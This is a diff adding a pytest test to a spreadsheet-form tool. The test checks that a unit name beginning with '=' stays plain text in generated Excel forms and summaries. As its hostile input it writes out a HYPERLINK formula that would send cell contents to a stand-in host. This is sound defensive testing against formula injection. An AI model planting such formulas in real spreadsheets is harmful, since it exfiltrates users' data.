@@ -305,3 +305,22 @@ def test_unit_form_written_filled_and_taken_back(tmp_path):
     assert r.returncode == 1
     assert run("import", form, "--db", db).returncode == 2
     assert run("template", "--db", db, "--year", 2019, "--unit", "NOPE", "--out", tmp_path / "x.xlsx").returncode == 1
+
+
+def test_names_starting_with_equals_stay_text_in_the_form_and_the_summary(tmp_path, province, example):
+    hostile = '=HYPERLINK("http://x.example/?d="&A1,"Bấm")'
+    ex = copy.deepcopy(example)
+    ex["units"][0]["name"] = hostile
+    db = tmp_path / "xa.db"
+    assert run("import", write(tmp_path / "x.json", ex), "--db", db).returncode == 0
+    form = tmp_path / "f.xlsx"
+    assert run("template", "--db", db, "--year", 2019, "--unit", ex["units"][0]["code"], "--out", form).returncode == 0
+    book = openpyxl.load_workbook(form)
+    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value == hostile]
+    assert len(cells) == 2 and all(c.data_type == "s" for c in cells)  # the unit line and its drop-down entry
+
+    assert run("receive", write(tmp_path / "c.json", package(example, hostile, "101")), "--db", province).returncode == 0
+    out = tmp_path / "s.xlsx"
+    assert run("report", "--db", province, "--year", 2019, "--kind", "summary", "--out", out).returncode == 0
+    first = openpyxl.load_workbook(out).worksheets[0]
+    assert first.cell(2, 1).value == hostile and first.cell(2, 1).data_type == "s"
